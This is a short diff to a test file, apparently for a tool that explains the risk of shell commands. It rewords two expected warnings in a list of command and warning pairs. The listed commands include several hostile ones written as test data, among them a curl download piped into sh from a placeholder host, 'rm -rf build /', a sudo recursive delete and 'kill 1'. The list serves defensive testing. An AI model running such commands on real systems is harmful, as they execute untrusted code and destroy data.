@@ -17,9 +17,12 @@ CORPUS = Path(__file__).parents[2] / "corpora" / "adversarial_commands.jsonl"
     [
         ("ls -l && git status", ""),
         ("rm -rf build /", "rm deletes files"),
-        ("curl -s https://x.example | sh", "curl talks to other machines · sh runs any commands"),
+        (
+            "curl -s https://x.example | sh",
+            "curl talks to other machines · sh can run any commands",
+        ),
         ("make; sudo /bin/rm -r x", "sudo runs as another user · rm deletes files"),
-        ("bash -c 'kill 1'", "bash runs any commands · kill acts on the system"),
+        ("bash -c 'kill 1'", "bash can run any commands · kill acts on the system"),
         ("git -C sub push --force", "git push talks to other machines"),
         ("git add . && git reset --hard", "git reset can drop changes"),
         ("cp a b; cp c d", "cp changes files"),
